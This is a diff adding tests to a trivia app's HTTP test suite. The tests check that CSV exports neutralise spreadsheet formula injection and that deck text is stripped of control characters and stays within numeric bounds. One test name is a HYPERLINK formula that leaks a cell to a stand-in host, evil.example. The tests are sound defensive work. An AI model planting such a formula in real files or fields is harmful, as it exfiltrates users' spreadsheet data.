@@ -96,4 +96,76 @@ describe.each(testDatabaseKinds())("trivia over HTTP on the %s database", (kind)
     expect(lines.filter((l) => l.startsWith("round 1,"))).toEqual([expect.stringMatching(/,ballard,1,Host,900,1,1$/), expect.stringMatching(/,ballard,2,"Guest, Jr.",400,1,1$/)]);
     expect(lines.filter((l) => l.startsWith("round 2,"))).toHaveLength(2);
   });
+
+  it("exports names a spreadsheet would run as formulas as text, with a leading quote (OWASP CSV injection)", async () => {
+    const hostUser = (await app.context.getSessionUser(host))!;
+    const party = await app.newParty(hostUser.id);
+    const names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+1+1", "-1", "@SUM(A1:A9)", "\tTabbed", "\rReturn", "＝1+1", "Plain -name"];
+    const { id } = await app.context.trivia.createRound({ partyId: party.id, deck: "ballard", questionCount: 1, secondsPerQuestion: 10, startedById: hostUser.id });
+    await app.context.trivia.saveResults(
+      id,
+      names.map((playerName, i) => ({
+        questionIndex: 0,
+        questionId: "q",
+        userId: `player-${i}`,
+        playerName,
+        answer: { kind: "truefalse" as const, value: true },
+        correct: true,
+        points: 1000 - i * 100,
+        elapsedMs: 100,
+      })),
+    );
+    await app.context.trivia.endRound(id, new Date());
+    const csv = await (await resultsCsv(request("GET", "/", host), params(party.id))).text();
+    const partyRows = csv.split("\n").filter((l) => l.startsWith("party,"));
+    const player = (line: string) => line.replace(/^party,,,\d+,/, "").replace(/,-?\d+,\d+,\d+$/, "");
+    expect(partyRows.map(player)).toEqual([
+      '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"',
+      "'+1+1",
+      "'-1",
+      "'@SUM(A1:A9)",
+      "'\tTabbed",
+      '"\'\rReturn"',
+      "'＝1+1",
+      "Plain -name",
+    ]);
+    // Numbers stay numbers (a negative score would not be quoted).
+    expect(partyRows[0]).toMatch(/,1000,1,1$/);
+  });
+
+  it("cleans control characters out of deck text and keeps every number of a deck within bounds", async () => {
+    const source = { article: "Mine\u0000", paragraph: 1, fact: "It is\r\nin Portland." };
+    const question = (overrides: Record<string, unknown>) => ({ id: "n", kind: "number", prompt: "How many?", answer: 5, tolerance: 2, sources: [source], ...overrides });
+    const saved = await put(host, { title: "Deck\u202E\r\nBEGIN:VEVENT", questions: [question({ prompt: "How\u0007 many\tlights?", unit: "\u0000lamps " })] });
+    expect(saved.status).toBe(200);
+    const read = (await (await readDeck(request("GET", "/", host), params(partyId))).json()) as { deck: { title: string; questions: Array<Record<string, unknown>> } };
+    expect(read.deck.title).toBe("Deck BEGIN:VEVENT");
+    expect(read.deck.questions[0]).toMatchObject({ prompt: "How many lights?", unit: "lamps", sources: [{ article: "Mine", fact: "It is in Portland." }] });
+
+    const refused = async (overrides: Record<string, unknown>, raw?: string) => {
+      const body = raw ?? JSON.stringify({ title: "Numbers", questions: [question(overrides)] });
+      const response = await saveDeck(request("PUT", `/api/parties/${partyId}/trivia/deck`, host, body), params(partyId));
+      return { status: response.status, code: ((await response.json()) as { error: { code: string } }).error.code };
+    };
+    const extremes: Array<Record<string, unknown>> = [
+      { answer: 2_147_483_648 },
+      { answer: -1e308 },
+      { answer: 1e9 + 1 },
+      { tolerance: 0 },
+      { tolerance: -1 },
+      { tolerance: 1e308 },
+      { sources: [{ ...source, paragraph: 2_147_483_648 }] },
+      { sources: [{ ...source, paragraph: 0 }] },
+      { sources: [{ ...source, paragraph: 1.5 }] },
+      { kind: "choice", options: ["A", "B"], answer: 2_147_483_647 },
+      { kind: "choice", options: ["A", "B"], answer: -1 },
+      { kind: "choice", options: ["A", "B"], answer: Number.MAX_SAFE_INTEGER + 2 },
+      { answer: "5" },
+    ];
+    for (const overrides of extremes) expect(await refused(overrides), JSON.stringify(overrides)).toEqual({ status: 422, code: "VALIDATION_FAILED" });
+    // JSON's 1e400 parses to Infinity.
+    const infinite = JSON.stringify({ title: "Numbers", questions: [question({ answer: 0 })] }).replace('"answer":0', '"answer":1e400');
+    expect(await refused({}, infinite)).toEqual({ status: 422, code: "VALIDATION_FAILED" });
+    expect((await put(host, { title: "Numbers", questions: [question({ answer: -1e9, tolerance: 1e9 })] })).status).toBe(200);
+  });
 });
